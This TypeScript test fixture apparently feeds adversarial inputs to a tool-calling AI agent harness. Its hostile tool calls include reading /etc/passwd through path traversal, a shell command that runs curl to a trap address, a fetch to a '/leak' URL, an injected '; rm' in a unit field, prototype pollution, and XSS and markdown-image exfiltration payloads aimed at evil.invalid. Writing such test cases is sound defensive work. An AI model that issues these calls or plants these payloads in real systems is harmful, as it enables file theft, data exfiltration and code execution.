import type { Order } from './hostileModel.ts';

/** What a case, a tool or a panel may tell a model to call. `trap` is an address that nobody may ever reach. */
export function hostileCalls(trap: string, file: string): readonly Order[] {
  const paths = [
    '../../../../etc/passwd',
    '/etc/passwd',
    file,
    '..\\..\\x',
    'C:\\Windows\\win.ini',
    '\\\\server\\share',
    'CON',
    `file://${file}`,
    'a\u0000b',
  ];
  return [
    ...paths.map((path): Order => ({ call: 'read_file', with: { path } })),
    { call: 'write_file', with: { path: file, text: 'owned' } },
    { call: 'run_shell', with: { command: `touch ${file}; curl ${trap}` } },
    { call: 'eval', with: { code: `process.mainModule.require('fs').writeFileSync('${file}', '')` } },
    { call: 'fetch', with: { url: `${trap}/leak` } },
    { call: 'open_url', with: { url: 'https://evil.invalid/' } },
    ...[
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      '../../x',
      'egfr/../x',
      'a b\nc',
      '\u202Etool',
    ].map((call): Order => ({ call, with: {} })),
    { call: 'x'.repeat(5000), with: {} },
    // A tool of another team, and hand-ins that are not this turn's.
    { call: 'drug_interactions', with: { medicines: ['warfarin', 'ibuprofen'] } },
    { call: 'reference_search', with: { query: `${trap} ../../etc/passwd` } },
    { call: 'conclude', with: { summary: 'All agreed.' } },
    { call: 'submit_synthesis', with: { summary: 's', findings: [] } },
    {
      call: 'cast_votes',
      with: { summary: 's', votes: [{ finding: '../../x', stance: 'block', reason: 'r' }] },
    },
    // A tool of its own, with what does not belong there.
    {
      call: 'egfr',
      with: { ['__proto__']: { polluted: true }, constructor: { prototype: { polluted: true } } },
    },
    { call: 'egfr', with: JSON.parse('{"__proto__": {"polluted": true}, "age": 70}') as unknown },
    { call: 'egfr', with: [1, 2, 3] },
    { call: 'egfr', with: null },
    { call: 'egfr', with: 'HUGE' },
    { call: 'egfr', with: 'DEEP' },
    { call: 'egfr', with: { creatinine: { value: 1e308, unit: `; rm ${file}` }, age: -1, sex: '<script>' } },
    { call: 'egfr', with: { file: '../../etc/passwd', url: trap } },
  ];
}

/** Evidence that does not hold, for claims that should do nothing either. */
export const fakeEvidence: readonly unknown[] = [
  { anchor: 'c999' },
  { anchor: '../../etc/passwd' },
  { anchor: '__proto__' },
  { anchor: 'c1\n[c2] patient: fine' },
  { anchor: 'c2', quote: 'words that stand nowhere in it' },
  { tool: 'read_file' },
  { tool: '__proto__' },
  { citation: 'PMID:1' },
  { citation: 'constructor' },
  {},
];

/** Texts that are harmless only while they stay text. */
export const hostileTexts: readonly string[] = [
  '<script>fetch("https://evil.invalid")</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '[click](javascript:alert(1)) [x](command:workbench.action.quit) [y](data:text/html,z)',
  '![pixel](https://evil.invalid/p.png?leak=1)',
  'https://evil.invalid/a www.evil.invalid mail@evil.invalid <https://evil.invalid> ftp://evil.invalid/x',
  '[ref]: https://evil.invalid\n\n[ref]',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '\u001B[31mred\u001B[0m \u001B]8;;https://evil.invalid\u0007link\u001B]8;;\u0007',
  'right\u202Eto left\u202C \u200Bzero\u2066width',
  '# heading\n\n```\nfence\n```\n~~~\n1. list\n- list\n> quote\n---\n===',
  '&lt;b&gt; &#106;avascript: **bold** __x__ `code` ~~gone~~',
];
